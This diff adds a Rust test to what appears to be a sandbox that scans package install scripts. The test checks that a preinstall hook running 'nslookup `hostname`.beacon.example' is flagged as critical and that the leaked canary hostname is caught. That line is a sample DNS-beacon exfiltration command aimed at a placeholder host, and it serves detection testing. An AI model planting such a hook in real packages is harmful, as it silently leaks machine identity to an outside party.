@@ -237,3 +237,26 @@ fn packages_without_install_scripts_are_not_run() {
     assert!(report.observations.is_empty() && report.findings.is_empty());
     let _ = std::io::empty().read(&mut [0u8; 1]);
 }
+
+/// The shell shape of the beacon, with a lookup tool this system may not have (a
+/// stand-in then runs in its place): seen running with the machine's name in its
+/// arguments, and the lookup itself carries it.
+#[test]
+fn a_shell_beacon_is_seen_with_or_without_the_tool() {
+    let report = sandboxed(
+        PackageBuilder::new("shell-beacon-shape", "99.9.9")
+            .script("preinstall", "nslookup `hostname`.beacon.example || true"),
+    );
+    assert_eq!(
+        strongest(&report, Code::RuntimeExec),
+        Some(Severity::Critical),
+        "{report:#?}"
+    );
+    assert!(
+        report
+            .findings
+            .iter()
+            .any(|finding| finding.message.contains("canaryhost-5d1e.beacon.example")),
+        "{report:#?}"
+    );
+}
